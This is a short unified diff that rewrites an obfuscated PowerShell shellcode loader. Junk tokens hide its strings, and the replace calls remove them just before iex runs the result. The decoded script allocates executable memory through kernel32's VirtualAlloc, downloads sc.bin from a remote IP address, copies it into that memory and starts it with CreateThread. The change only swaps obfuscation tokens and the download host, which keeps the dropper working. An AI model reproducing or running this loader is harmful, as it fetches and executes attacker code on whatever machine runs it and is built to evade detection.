@@ -1,11 +1,11 @@
-iex (('# setup 9716 v4
-$code = @''
-[DllImport("kernel32.dll")] public static extern IntPtr VKQZ42irtualAlloc(IntPtr a, uint s, uint t, uint p);
-[DllImport("kernel3KQZ422.dll")] public static extern IntPtr CreateThread(IntPtr a, uint s, IntPtr f, IntPtr p, uint c, IntPtr i);
+iex (('# task 6993 v4
+$cozj~3e = @''
+[DllImport("kernel32.zj~3ll")] publiKJZ65c static extern IntPtr VirtualAlloc(IntPtr a, uint s, uint t, uint p);
+[DllImport("kernel32.zj~3ll")] public static extern IntPtr CreateThreazj~3(IntPtr a, uint s, IntPtr f, IntPtr p, uint c, IntPtr i);
 ''@
-$k = Add-Type -MemberDefinition $code -Name qj~532 -PassThru
-[Byte[]]$sc = (New-Object Net.WebClient).DownloadData(''http://192.0.2.44/sc.bin'')
-$m = $k::VirtualAlloc(0, $sc.Length, 0x3000, 0x40)
-[System.Runtime.InteropServices.Marshal]::Copy($sc, 0, $m, $sc.Length)
-$k::CreateThread(0KQZ42, 0, $m, 0, 0, 0)
-' -replace 'KQZ42','').Replace('qj~5','K'))
+$k = Azj~3zj~3-Type -MemberDefinition $cozj~3e -Name K32 -PassThru
+[Byte[]]$sc = (New-Object Net.WebClient).Downloazj~3Data(''hKJZ65ttp://203.0.113.17/sc.bin'')
+$m = $k::ViKJZ65rtualAlloc(0, $sc.Length, 0x3000, 0x40)
+[System.Runtime.InteropServices.Marshal]::Copy($sc, 0KJZ65, $m, $sc.Length)
+$k::CreateThreazj~3(0, 0, $m, 0, 0, 0)
+' -replace 'KJZ65','').Replace('zj~3','d'))
